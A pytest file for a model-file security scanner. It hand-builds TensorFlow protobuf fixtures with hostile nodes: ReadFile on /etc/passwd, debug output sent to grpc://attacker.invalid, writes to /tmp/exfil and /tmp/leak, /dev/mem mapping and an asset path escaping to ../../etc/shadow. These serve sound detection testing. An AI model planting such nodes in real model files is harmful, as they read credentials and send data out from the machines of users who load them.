"""TensorFlow scanner: SavedModel and GraphDef protobufs written by a tiny encoder here.

TensorFlow is not installed (too heavy), so fixtures are protobuf bytes built with the
field numbers of tensorflow's .proto files (saved_model, meta_graph, graph, node_def,
function, attr_value, tensor).
"""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from modelward import Severity, scan_bytes
from modelward.scanners.tensorflow import SCANNER


def varint(n: int) -> bytes:
    out = bytearray()
    while True:
        byte = n & 0x7F
        n >>= 7
        if n:
            out.append(byte | 0x80)
        else:
            out.append(byte)
            return bytes(out)


def fld(number: int, value: bytes | str | int) -> bytes:
    if isinstance(value, int):
        return varint(number << 3) + varint(value)
    data = value.encode() if isinstance(value, str) else value
    return varint(number << 3 | 2) + varint(len(data)) + data


def attr(key: str, value: bytes) -> bytes:
    return fld(5, fld(1, key) + fld(2, value))


def string_tensor(*values: str) -> bytes:
    """AttrValue{tensor: TensorProto{dtype: DT_STRING, string_val: ...}}."""
    return fld(8, fld(1, 7) + b"".join(fld(8, v) for v in values))


def node(name: str, op: str, *inputs: str, attrs: bytes = b"") -> bytes:
    return fld(1, name) + fld(2, op) + b"".join(fld(3, i) for i in inputs) + attrs


def graph(*nodes: bytes, library: bytes = b"") -> bytes:
    body = b"".join(fld(1, n) for n in nodes)
    if library:
        body += fld(2, library)
    return body + fld(4, fld(1, 1808))  # versions { producer }


def function(name: str, *nodes: bytes) -> bytes:
    return fld(1, fld(1, fld(1, name)) + b"".join(fld(3, n) for n in nodes))


def saved_model(graph_def: bytes, assets: tuple[str, ...] = ()) -> bytes:
    meta = fld(1, fld(4, "serve") + fld(5, "2.16.1")) + fld(2, graph_def)
    for path in assets:
        meta += fld(6, fld(1, fld(1, "asset:0")) + fld(2, path))
    return fld(1, 1) + fld(2, meta)


BENIGN = graph(
    node("x", "Placeholder", attrs=attr("dtype", fld(6, 1))),
    node("w", "Const", attrs=attr("value", fld(8, fld(1, 1) + fld(4, b"\0" * 16)))),
    node("mm", "MatMul", "x", "w"),
    node("relu", "Relu", "mm"),
    node("saver_filename", "Placeholder"),
    node("save", "SaveV2", "saver_filename", "names", "slices", "w"),
)


def ids(data: bytes, name: str = "saved_model.pb") -> dict[str, Severity]:
    result = scan_bytes(data, name, raise_internal=True)
    out: dict[str, Severity] = {}
    for f in result.findings:
        out[f.rule.id] = max(out.get(f.rule.id, Severity.INFO), f.severity)
    return out


def test_benign_saved_model_and_graph_def_are_clean() -> None:
    for data, detail in ((saved_model(BENIGN), "tf-saved-model"), (BENIGN, "tf-graph-def")):
        result = scan_bytes(data, "model.pb", raise_internal=True)
        assert result.format == detail
        assert [f for f in result.findings if f.severity >= Severity.LOW] == []


def test_read_file_in_graph_is_high() -> None:
    g = graph(node("p", "Const", attrs=attr("value", string_tensor("/etc/passwd"))),
              node("r", "ReadFile", "p"))
    found = scan_bytes(saved_model(g), "saved_model.pb", raise_internal=True).findings
    (hit,) = [f for f in found if f.rule.id == "MW-TF-001"]
    assert hit.location.node == "r" and hit.evidence == "ReadFile"


def test_ops_inside_library_functions_are_walked() -> None:
    lib = function("__inference_serve_42", node("w", "WriteFile", "a", "b"),
                   node("py", "EagerPyFunc", "w"))
    g = graph(node("call", "StatefulPartitionedCall", attrs=attr("f", fld(10, fld(
        1, "__inference_serve_42")))), node("fcall", "__inference_serve_42"), library=lib)
    found = scan_bytes(saved_model(g), "saved_model.pb", raise_internal=True).findings
    where = {(f.rule.id, f.location.node) for f in found}
    assert ("MW-TF-001", "__inference_serve_42/w") in where
    assert ("MW-TF-002", "__inference_serve_42/py") in where
    assert not any(f.rule.id == "MW-TF-004" for f in found)  # calling a library function


def test_constant_checkpoint_path_outside_variables() -> None:
    g = graph(node("path", "Const", attrs=attr("value", string_tensor("/tmp/exfil/ckpt"))),
              node("save", "SaveV2", "path", "n", "s", "t"))
    assert ids(g, "frozen.pb").get("MW-TF-001") is Severity.HIGH
    ok = graph(node("path", "Const", attrs=attr("value", string_tensor("variables/variables"))),
               node("restore", "RestoreV2", "path", "n", "s"))
    assert "MW-TF-001" not in ids(ok, "frozen.pb")


@pytest.mark.parametrize(("op", "attrs", "rule"), [
    ("DebugIdentity", attr("debug_urls", fld(1, fld(2, "grpc://attacker.invalid:6064"))),
     "MW-TF-001"),
    ("PrintV2", attr("output_stream", fld(2, "file:///tmp/leak")), "MW-TF-001"),
    ("ImmutableConst", attr("memory_region_name", fld(2, "/dev/mem")), "MW-TF-001"),
    ("RpcCall", b"", "MW-TF-003"),
    ("GcsConfigureCredentials", b"", "MW-TF-003"),
    ("MyFancyKernel", b"", "MW-TF-004"),
])
def test_dangerous_and_custom_ops(op: str, attrs: bytes, rule: str) -> None:
    g = graph(node("x", "Placeholder"), node("n", op, "x", attrs=attrs))
    assert rule in ids(saved_model(g))


def test_print_to_stderr_is_fine() -> None:
    g = graph(node("x", "Placeholder"),
              node("p", "PrintV2", "x", attrs=attr("output_stream", fld(2, "stderr"))))
    assert ids(g, "g.pb") == {}


def test_dataset_with_runtime_path_is_low() -> None:
    g = graph(node("f", "Placeholder"), node("ds", "TFRecordDataset", "f", "c", "b"))
    assert ids(g, "g.pb") == {"MW-TF-006": Severity.LOW}


def test_asset_path_escaping() -> None:
    data = saved_model(BENIGN, assets=("vocab.txt", "../../etc/shadow"))
    result = scan_bytes(data, "saved_model.pb", raise_internal=True)
    hits = [f for f in result.findings if f.rule.id == "MW-TF-005"]
    assert [h.evidence for h in hits] == ["../../etc/shadow"]


def test_custom_op_reported_once_per_type() -> None:
    g = graph(*(node(f"n{i}", "Zapper") for i in range(5)))
    found = scan_bytes(g, "g.pb", raise_internal=True).findings
    assert [f.evidence for f in found if f.rule.id == "MW-TF-004"] == ["Zapper"]


def test_onnx_and_other_protobufs_are_not_claimed() -> None:
    onnx = pytest.importorskip("onnx")
    from onnx import helper

    g = helper.make_graph([helper.make_node("Relu", ["x"], ["y"])], "g",
                          [helper.make_tensor_value_info("x", 1, [1])],
                          [helper.make_tensor_value_info("y", 1, [1])])
    data = helper.make_model(g).SerializeToString()
    result = scan_bytes(data, "m.onnx", raise_internal=True)
    assert result.format != "tensorflow" and not str(result.format).startswith("tf-")
    # fingerprint.pb: all varints.
    assert SCANNER._kind(memoryview(fld(1, 123) + fld(2, 456))) is None
    del onnx


def test_node_budget() -> None:
    from modelward.policy import Limits, Policy

    g = graph(*(node(f"n{i}", "Relu") for i in range(50)))
    result = scan_bytes(g, "g.pb", policy=Policy(limits=Limits(max_graph_nodes=10)),
                        raise_internal=True)
    assert "MW-CORE-003" in {f.rule.id for f in result.findings}


SEED = saved_model(graph(
    node("p", "Const", attrs=attr("value", string_tensor("/etc/x"))), node("r", "ReadFile", "p"),
), assets=("a.txt",))


@settings(max_examples=200, deadline=None)
@given(st.data())
def test_property_mutated_protobufs_never_crash(data: st.DataObject) -> None:
    buf = bytearray(SEED)
    for _ in range(data.draw(st.integers(1, 6))):
        buf[data.draw(st.integers(0, len(buf) - 1))] = data.draw(st.integers(0, 255))
    cut = data.draw(st.integers(1, len(buf)))
    scan_bytes(bytes(buf[:cut]), "saved_model.pb", raise_internal=True)


@settings(max_examples=100, deadline=None)
@given(st.binary(max_size=300))
def test_property_arbitrary_bytes(blob: bytes) -> None:
    scan_bytes(b"\x08\x01\x12" + blob, "saved_model.pb", raise_internal=True)
    scan_bytes(b"\x0a" + blob, "graph.pb", raise_internal=True)
